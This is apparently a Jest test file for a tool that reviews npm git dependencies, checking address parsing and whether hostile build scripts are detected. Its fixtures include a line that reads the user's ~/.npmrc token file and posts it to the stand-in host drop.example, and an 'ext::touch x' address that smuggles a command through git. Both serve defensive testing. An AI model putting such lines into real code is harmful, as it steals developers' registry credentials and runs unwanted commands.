import { describe, expect, it } from '@jest/globals';
import { gitAddress } from '../../src/evidence/git-address.ts';
import type { IncomingChange } from '../../src/model/package.ts';
import { added } from '../../src/rules/example.ts';
import { aPackage } from '../helpers/a-tarball.ts';
import { contentsFrom } from '../helpers/a-tarball-registry.ts';

const id = '0123456789abcdef0123456789abcdef01234567';
const archive = `https://codeload.github.com/acme/tool/tar.gz/${id}`;

describe('the address of a git dependency', () => {
  it.each([
    [`git+ssh://git@github.com/acme/tool.git#${id}`, archive],
    [`git+https://user:secret@github.com/acme/tool.git#${id}`, archive],
    [`git://github.com/acme/tool#${id}`, archive],
    [`github:acme/tool#${id}`, archive],
    ['github:acme/tool#0123456', 'https://codeload.github.com/acme/tool/tar.gz/0123456'],
    [`https://github.com/acme/tool#${id}`, archive],
    [archive, archive],
    [`git+ssh://git@gitlab.com/a/b/c.git#${id}`, `https://gitlab.com/api/v4/projects/a%2Fb%2Fc/repository/archive.tar.gz?sha=${id}`],
    [`bitbucket:acme/tool#${id}`, `https://bitbucket.org/acme/tool/get/${id}.tar.gz`],
  ])('%s at a big host is the archive npm fetches', (written, url) => {
    expect(gitAddress(written)).toEqual({ url });
  });

  it.each([
    [`https://github.com/acme/tool.git#${id}`, 'https://github.com/acme/tool.git'],
    [`https://github.com/acme/tool.git#commit=${id}`, 'https://github.com/acme/tool.git'],
    [`git@github.com:acme/tool.git#${id}`, 'https://github.com/acme/tool.git'],
    [`git+https://user:secret@host.example:8080/acme/tool.git#${id}`, 'https://host.example:8080/acme/tool.git'],
    [`gist:abc#${id}`, 'https://gist.github.com/abc.git'],
  ])('%s is a repository to be fetched', (written, url) => {
    expect(gitAddress(written)).toEqual({ url, commit: id });
  });

  it.each([
    [`git+ssh://git@github.com/acme/tool.git#${id}::path:packages/a`, 'packages/a'],
    [`${archive}#path:/packages/a`, 'packages/a'],
    [`github:acme/tool#${id}&path:/packages/a`, 'packages/a'],
  ])('%s is a folder of a repository', (written, folder) => {
    expect(gitAddress(written)).toEqual({ url: 'https://github.com/acme/tool.git', commit: id, folder });
  });

  it.each([
    'git+https://host.example/tool.git#main',
    'git+https://host.example/tool.git',
    'github:acme/tool#main',
    `git+ssh://git@host.example/tool.git#${id}`,
    `git+file:///srv/tool#${id}`,
    `ext::touch x#${id}`,
    `https://github.com/acme/tool.git#${id}&workspace=a`,
  ])('%s cannot be read', (written) => {
    expect(gitAddress(written)).toHaveProperty('why');
  });
});

const theft =
  'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });';
const tool = (commit: string): IncomingChange => added('tool', '1.0.0', { source: 'git', resolved: `github:acme/tool#${commit}` });
const packed = (scripts: Record<string, string>) =>
  aPackage({ name: 'tool', version: '1.0.0', scripts }, { 'index.js': '', 'build.js': theft, 'test/attack.js': theft, '.vscode/tasks.json': '{}' });

describe('a package built from a repository', () => {
  it('is judged by what making it runs', async () => {
    const found = async (scripts: Record<string, string>) => {
      const { contents } = await contentsFrom({ packages: [], change: tool(id), elsewhere: new Map([[archive, packed(scripts)]]) });
      return (
        contents.ok && {
          install: contents.value.install.map(({ command }) => command),
          found: contents.value.capabilities.length > 0,
          added: contents.value.added,
        }
      );
    };
    expect(await found({ prepare: 'node build.js' })).toEqual({ install: ['node build.js'], found: true, added: [] });
    expect(await found({ prepack: 'node build.js' })).toEqual({ install: ['node build.js'], found: true, added: [] });
    expect(await found({ test: 'node build.js' })).toEqual({ install: [], found: false, added: [] });
  });

  it('that cannot be had is told, not passed', async () => {
    const { contents } = await contentsFrom({ packages: [], change: tool(id) });
    expect(contents).toEqual({ ok: false, why: 'not-offered', reason: 'the tarball cannot be had' });
    const unnamed = added('tool', '1.0.0', { source: 'git', resolved: 'github:acme/tool#main' });
    expect((await contentsFrom({ packages: [], change: unnamed })).contents).toMatchObject({ ok: false, why: 'not-offered' });
  });
});

it('where what is imported is yet to be made, the sources it is made of count, its tests do not', async () => {
  const files = { 'src/index.ts': theft, 'src/__tests__/a.js': theft, 'tools/x.js': theft };
  const bytes = aPackage({ name: 'tool', version: '1.0.0', main: './dist/index.js', scripts: { prepare: 'tsc' } }, files);
  const { contents } = await contentsFrom({ packages: [], change: tool(id), elsewhere: new Map([[archive, bytes]]) });
  expect(contents.ok && [...new Set(contents.value.capabilities.map(({ file }) => file))]).toEqual(['src/index.ts']);
});
